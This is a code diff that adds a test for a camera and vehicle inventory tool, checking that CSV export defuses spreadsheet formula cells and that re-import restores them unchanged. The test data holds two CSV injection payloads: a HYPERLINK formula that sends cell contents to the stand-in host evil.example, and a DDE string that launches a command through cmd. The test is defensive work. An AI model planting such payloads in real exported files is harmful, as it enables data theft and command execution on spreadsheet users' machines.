@@ -396,3 +396,49 @@ async def test_progress_counts_every_row(tmp_path: Path) -> None:
         assert (await store.search())[1] == 448
     finally:
         await db.close()
+
+
+def test_csv_export_neutralises_spreadsheet_formulas_and_reimports_unchanged(env: Path) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run (=, +, -, @, tab, CR first) is written with
+    a leading quote; numbers stay numbers; the importer removes the quote again."""
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
+    vehicles = [{"id": "bus-9", "kind": "bus", "plate": "+86 沪A", "contact": "@driver", "home_district": "-x"}]
+    cams = [
+        {"id": "f1", "name": formula, "source_url": "rtsp://h/p", "area": "-1+1", "lat": -31.5, "lon": -121.25},
+        {
+            "id": "f2",
+            "name": "-2+cmd|' /C calc'!A0",
+            "source_url": "rtsp://h/q",
+            "tags": ["@tag", "ok"],
+            "kind": "bus",
+            "vehicle_id": "bus-9",
+        },
+    ]
+    code, out = run(
+        "cameras",
+        "import",
+        str(write_json(env / "inv.json", cams)),
+        "--vehicles",
+        str(write_json(env / "veh.json", vehicles)),
+        "--json",
+    )
+    assert code == 0, out
+    code, out = run("cameras", "export", "--format", "csv")
+    assert code == 0, out
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out))}
+    assert rows["f1"]["name"] == "'" + formula and rows["f1"]["area"] == "'-1+1"
+    assert (rows["f1"]["lat"], rows["f1"]["lon"]) == ("-31.5", "-121.25")  # numbers are not formulas
+    assert rows["f2"]["name"] == "'-2+cmd|' /C calc'!A0" and rows["f2"]["tags"] == "'@tag;ok"
+    for row in rows.values():
+        text = [v for k, v in row.items() if k not in ("lat", "lon")]
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in text), row
+    code, vout = run("cameras", "export", "--vehicles", "--format", "csv")
+    veh = next(csv.DictReader(io.StringIO(vout)))
+    assert (veh["plate"], veh["contact"], veh["home_district"]) == ("'+86 沪A", "'@driver", "'-x")
+    # The export re-imports unchanged (the quotes are taken off again).
+    (env / "back.csv").write_text(out, encoding="utf-8")
+    code, out = run("cameras", "import", str(env / "back.csv"), "--json")
+    assert (code, last_json(out)["unchanged"]) == (0, 2), out
+    (env / "vback.csv").write_text(vout, encoding="utf-8")
+    code, vout = run("cameras", "import-vehicles", str(env / "vback.csv"), "--json")
+    assert last_json(vout)["vehicles"]["unchanged"] == 1, vout
